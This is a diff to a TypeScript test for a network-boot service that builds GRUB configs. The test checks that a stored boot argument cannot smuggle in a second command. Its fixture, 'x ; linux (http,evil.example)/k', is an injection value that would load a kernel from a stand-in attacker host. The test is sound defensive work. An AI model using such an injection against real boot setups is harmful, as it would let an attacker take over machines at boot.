@@ -87,8 +87,11 @@ describe('stored values that got in before the rules cannot take over the boot',
     store('x ; linux (http,evil.example)/k');
     const cfg = tftpVirtualFile(`grub/grub.cfg-01-${MAC.replaceAll(':', '-')}`, { ...s.livery, config: s.config })!.toString();
     const commands = grubCommands(cfg);
-    expect(commands.filter((c) => c.argv[0] === 'linux')).toHaveLength(1);
-    expect(commands.find((c) => c.argv[0] === 'linux')!.argv.slice(-4)).toEqual(['x', ';', 'linux', '(http,evil.example)/k']);
+    // The template's one `if linux ...; then` (GRUB ends the condition at the `;` it wrote).
+    const linux = commands.filter((c) => c.argv[0] === 'if' && c.argv[1] === 'linux');
+    expect(linux).toHaveLength(1);
+    expect(commands.filter((c) => c.argv[0] === 'linux')).toEqual([]);
+    expect(linux[0]!.argv.slice(-4)).toEqual(['x', ';', 'linux', '(http,evil.example)/k']);
   });
 
   it("livery's own parameters in stored args are dropped, so the initrd sees livery's rootfs and checksum only", async () => {
